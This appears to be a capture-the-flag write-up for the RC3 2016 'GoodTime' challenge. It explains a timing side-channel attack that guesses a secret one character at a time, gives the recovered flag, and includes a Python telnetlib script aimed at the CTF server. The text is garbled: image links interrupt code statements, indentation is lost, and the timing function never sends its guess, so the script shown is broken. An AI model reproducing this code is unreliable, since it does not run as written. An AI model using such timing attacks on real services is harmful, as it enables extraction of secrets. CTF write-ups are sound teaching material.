# GoodTime (misc 150)
I try to send something to the server, and I feel weird when I send RC3. It seems that it takes a longer time to response. So I try to use the side channel to recover the flag. This attack requires a stable network connection because any internet problems may lead to the incorrect estimation of response time. I fail several times on my laptop with wifi, and then I move on to workstation. It works!
The code to attack is quiet simple.
It can be faster to stop when the response time is 0.2 more than previous, but it's still slow when the string is too long. It takes about ten seconds per query when we nearly solve it. So, we manually guess the possible char and get the flag.
flag: RC3-2016-itz-alw4yz-a-g00d-t1m1ng-@tt@ck
import datetime
import telnetlib

SERVER ='goodtime.ctf.rc3.club'
PORT = '5866'

def time_interval(conn, param):
start = datetime.datetime.now()
ret = conn.read_until(b'\n').strip()
end = datetime.datetime.now()interval = end - start
return interval.total_seconds(), ret

def guess(x):
conn = telnetlib.Telnet(SERVER, PORT)
conn.read_until(b': ')
t, ret =time_interval(conn, x + b'\n')
print('\rguessing', x.decode('utf8'), t, end='')
return t, ret
def sidechannel_attack():
plain_text = b''
halt = False
while nothalt:
hit = max([(guess(plain_text + bytes([x])), x) for x in range(33, 128)], key=lambda x: x[0][0])
halt = (hit[0][1] !=b'Nope')
plain_text += bytes([hit[1]])print(plain_text.decode('utf8'), hit[0][0])